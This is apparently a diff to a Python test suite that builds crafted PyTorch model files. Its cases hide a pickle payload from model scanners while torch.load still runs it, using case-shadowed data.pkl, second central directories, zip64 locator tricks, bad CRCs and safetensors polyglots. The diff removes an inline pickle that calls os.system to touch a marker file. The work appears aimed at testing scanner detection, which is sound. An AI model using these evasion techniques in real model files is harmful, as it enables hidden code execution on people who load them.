@@ -16,26 +16,13 @@ from __future__ import annotations
 import io
 import json
 import os
-import pickle
 import struct
 import zipfile
 import zlib
 from dataclasses import dataclass, field
 from pathlib import Path
 
-
-class Reduce:
-    """Pickles as ``func(*args)``."""
-
-    def __init__(self, func, *args):
-        self.func, self.args = func, args
-
-    def __reduce__(self):
-        return (self.func, self.args)
-
-
-def evil_pickle(marker: Path, protocol: int = 2) -> bytes:
-    return pickle.dumps(Reduce(os.system, f"touch {marker}"), protocol=protocol)
+from support import Reduce, payload
 
 
 # -- raw zip writing ------------------------------------------------------------------------------
@@ -157,7 +144,7 @@ def simple_zip(members: list[tuple[str | bytes, bytes]], **kw) -> bytes:
 # -- torch.load: the zip reader --------------------------------------------------------------
 def case_renamed_data_pkl(torch, marker: Path) -> bytes:
     """data.pkl renamed Data.PKL: torch's lookup ignores case, exact-name scanners miss it."""
-    members = replace(benign_members(torch), "data.pkl", evil_pickle(marker),
+    members = replace(benign_members(torch), "data.pkl", payload(marker),
                       "archive/Data.PKL")
     return simple_zip(members)
 
@@ -166,7 +153,7 @@ def case_shadowed_data_pkl(torch, marker: Path) -> bytes:
     """A benign archive/data.pkl and a payload DATA.PKL: torch's binary search over names
     sorted without case meets the payload (zipfile's exact lookup finds the benign one)."""
     members = benign_members(torch)
-    evil = [("archive/DATA.PKL", evil_pickle(marker))]
+    evil = [("archive/DATA.PKL", payload(marker))]
     # torch sorts with a heap sort and stops at the first equal name: with the payload
     # placed right after the real one, it is the one met (checked against torch in tests)
     out = []
@@ -180,7 +167,7 @@ def case_shadowed_data_pkl(torch, marker: Path) -> bytes:
 def second_central_directory(torch, marker: Path) -> bytes:
     """The end record's directory offset points at a directory of a payload archive;
     zipfile reads the benign directory just before the end record (and shifts offsets)."""
-    evil = replace(benign_members(torch), "data.pkl", evil_pickle(marker))
+    evil = replace(benign_members(torch), "data.pkl", payload(marker))
     benign = benign_members(torch)
     z = RawZip()
     e_recs = [z.add(n, d) for n, d in evil]
@@ -202,7 +189,7 @@ def second_central_directory(torch, marker: Path) -> bytes:
 def zip64_locator_elsewhere(torch, marker: Path) -> bytes:
     """The zip64 locator points at a zip64 end record (and directory) of a payload
     archive; zipfile reads the zip64 end record just before the locator instead."""
-    evil = replace(benign_members(torch), "data.pkl", evil_pickle(marker))
+    evil = replace(benign_members(torch), "data.pkl", payload(marker))
     benign = benign_members(torch)
     z = RawZip()
     e_recs = [z.add(n, d) for n, d in evil]
@@ -225,7 +212,7 @@ def shifted_offsets(torch, marker: Path) -> bytes:
     benign = benign_members(torch)
     pkl = next(n for n, _ in benign if n.endswith("data.pkl"))
     good = next(d for n, d in benign if n == pkl)
-    bad = evil_pickle(marker)
+    bad = payload(marker)
     good, bad = good.ljust(len(bad), b"\0"), bad.ljust(len(good), b"\0")  # same sizes
     rest = [(n, d) for n, d in benign if n != pkl]
 
@@ -251,7 +238,7 @@ def short_entry_count(torch, marker: Path) -> bytes:
     data.pkl replaces it)."""
     members = benign_members(torch)
     z = RawZip()
-    recs = [z.add(n, d) for n, d in replace(members, "data.pkl", evil_pickle(marker))]
+    recs = [z.add(n, d) for n, d in replace(members, "data.pkl", payload(marker))]
     good = z.add(next(n for n, _ in members if n.endswith("data.pkl")),
                  next(d for n, d in members if n.endswith("data.pkl")))
     cd = RawZip.central([*recs, good])
@@ -263,7 +250,7 @@ def short_entry_count(torch, marker: Path) -> bytes:
 def trailing_end_signature(torch, marker: Path) -> bytes:
     """Four bytes of an end-record signature after the real end record: zipfile gives up
     ("not a zip file"), torch reads the archive and its payload."""
-    members = replace(benign_members(torch), "data.pkl", evil_pickle(marker))
+    members = replace(benign_members(torch), "data.pkl", payload(marker))
     return simple_zip(members) + b"PK\x05\x06\0\0\0\0"
 
 
@@ -271,7 +258,7 @@ def local_name_differs(torch, marker: Path) -> bytes:
     """data.pkl's local header names another file: zipfile refuses to read it."""
     z = RawZip()
     recs = []
-    for n, d in replace(benign_members(torch), "data.pkl", evil_pickle(marker)):
+    for n, d in replace(benign_members(torch), "data.pkl", payload(marker)):
         recs.append(z.add(n, d, local_name=n.replace("data.pkl", "dbta.pkl").encode()))
     return z.finish(recs)
 
@@ -280,7 +267,7 @@ def crc_and_deflate(torch, marker: Path) -> bytes:
     """A deflated data.pkl with a wrong CRC: torch checks neither."""
     z = RawZip()
     recs = []
-    for n, d in replace(benign_members(torch), "data.pkl", evil_pickle(marker)):
+    for n, d in replace(benign_members(torch), "data.pkl", payload(marker)):
         r = z.add(n, d, method=8 if n.endswith("data.pkl") else 0)
         if n.endswith("data.pkl"):
             r.crc ^= 0xFFFF
@@ -291,7 +278,7 @@ def crc_and_deflate(torch, marker: Path) -> bytes:
 # -- pickles a loader runs, hidden from first-byte sniffing ----------------------------------------
 def pickle_not_starting_with_proto(torch, marker: Path) -> bytes:
     """A pickle in an extra record that starts with BININT2 ... POP, not PROTO."""
-    hidden = b"M\x01\x000" + evil_pickle(marker)
+    hidden = b"M\x01\x000" + payload(marker)
     members = benign_members(torch)
     members.insert(1, ("archive/extra/notes.txt", hidden))
     return simple_zip(members)
@@ -300,14 +287,14 @@ def pickle_not_starting_with_proto(torch, marker: Path) -> bytes:
 def debug_pkl_payload(torch, marker: Path) -> bytes:
     """A payload in a .pkl record beside data.pkl, starting with MARK ... POP_MARK."""
     members = benign_members(torch)
-    members.insert(1, ("archive/code/x.py.debug_pkl", b"(1" + evil_pickle(marker)))
+    members.insert(1, ("archive/code/x.py.debug_pkl", b"(1" + payload(marker)))
     return simple_zip(members)
 
 
 def safetensors_polyglot(torch, marker: Path) -> bytes:
     """A plain zip holding model.safetensors whose first bytes pass the safetensors sniff
     and are also a pickle that imports os.system."""
-    body = b"N0X\x02\x00\x00\x00\x00{0" + evil_pickle(marker)
+    body = b"N0X\x02\x00\x00\x00\x00{0" + payload(marker)
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr("model.safetensors", body)
@@ -319,7 +306,7 @@ def polyglot_in_archive_bin(torch, marker: Path) -> bytes:
     """A plain zip holding pytorch_model.bin: a pickle starting BININT2 ... POP."""
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
-        z.writestr("pytorch_model.bin", b"M\x01\x000" + evil_pickle(marker))
+        z.writestr("pytorch_model.bin", b"M\x01\x000" + payload(marker))
     return out.getvalue()
 
 
@@ -365,7 +352,7 @@ def pt2_opaque_constant(torch, marker: Path) -> bytes:
                                  "use_pickle": True, "tensor_meta": None}
         return cfg
     parts = _set_json(parts, "data/constants/model_constants_config.json", edit)
-    parts.insert(1, (f"{root}/data/constants/opaque_obj_0", evil_pickle(marker)))
+    parts.insert(1, (f"{root}/data/constants/opaque_obj_0", payload(marker)))
     return simple_zip(parts)
 
 
@@ -404,7 +391,7 @@ def pt2_malformed_config(torch, marker: Path) -> bytes:
         return cfg
     parts = _set_json(parts, "data/weights/model_weights_config.json", weights)
     parts = _set_json(parts, "data/constants/model_constants_config.json", consts)
-    parts.insert(1, (f"{root}/data/constants/opaque_obj_0", evil_pickle(marker)))
+    parts.insert(1, (f"{root}/data/constants/opaque_obj_0", payload(marker)))
     return simple_zip(parts)
 
 
@@ -468,7 +455,7 @@ def pt2_with_data_pkl(torch, marker: Path) -> bytes:
     of the same file unpickles data.pkl."""
     parts = _pt2_parts(torch)
     root = parts[0][0].split("/", 1)[0]
-    parts.insert(1, (f"{root}/data.pkl", evil_pickle(marker)))
+    parts.insert(1, (f"{root}/data.pkl", payload(marker)))
     return simple_zip(parts)
 
 
